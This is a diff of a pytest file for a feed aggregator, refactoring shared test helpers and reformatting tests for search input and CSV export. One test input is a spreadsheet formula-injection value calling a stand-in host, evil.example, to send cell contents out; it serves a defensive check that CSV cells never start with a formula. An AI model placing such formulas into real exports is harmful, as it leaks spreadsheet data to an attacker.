@@ -14,12 +14,12 @@ from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
+from test_learning_cli import env, run  # noqa: F401  (env: fixture)
+from test_store import check
 
 from aggregator.app import make_app
-from aggregator.cli import main
 from aggregator.config import Settings
 from aggregator.types import (
-    FeedCheck,
     FeedSource,
     Prediction,
     StoryDraft,
@@ -58,39 +58,7 @@ def seed(data_dir: Path, url: str | None, titles: list[tuple[str, str]]) -> None
             )
             for i, (title, summary) in enumerate(titles)
         ]
-        app.store.save_update(
-            FeedCheck(
-                feed_id=feed.id,
-                at=NOW,
-                outcome="ok",
-                next_check=NOW,
-                status="active",
-                error_count=0,
-                first_error_at=None,
-                last_error=None,
-                success=True,
-            ),
-            recs,
-        )
-
-
-def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
-    try:
-        main(list(argv))
-        code = 0
-    except SystemExit as e:
-        code = int(e.code or 0)
-    c = capsys.readouterr()
-    return code, c.out, c.err
-
-
-@pytest.fixture
-def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    monkeypatch.setenv("AGGREGATOR_DATA_DIR", str(tmp_path / "data"))
-    monkeypatch.setenv("AGGREGATOR_FEEDS", str(tmp_path / "feeds.yaml"))
-    monkeypatch.delenv("AGGREGATOR_DATABASE_URL", raising=False)
-    (tmp_path / "feeds.yaml").write_text("feeds: []\n")
-    return tmp_path
+        app.store.save_update(check(feed.id, at=NOW), recs)
 
 
 # --- full-text search: one meaning on both backends -------------------------------------------
@@ -146,7 +114,9 @@ def test_search_means_the_same_on_both_backends(
 
 @pytest.mark.parametrize("typed", ["*", '"', '""', "OR", " * OR * "])
 def test_search_without_words_is_bad_input(
-    env: Path, capsys: pytest.CaptureFixture[str], typed: str
+    env: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+    typed: str,
 ) -> None:
     seed(env / "data", None, SEARCHABLE)
     code, out, err = run(capsys, "stories", "-q", typed)
@@ -188,7 +158,8 @@ def test_table_strips_control_characters_of_stories(tmp_path: Path, columns: int
 
 
 def test_csv_does_not_start_a_text_cell_with_a_formula(
-    env: Path, capsys: pytest.CaptureFixture[str]
+    env: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
 ) -> None:
     titles = [
         '=HYPERLINK("http://evil.example/?"&A1,"click")',
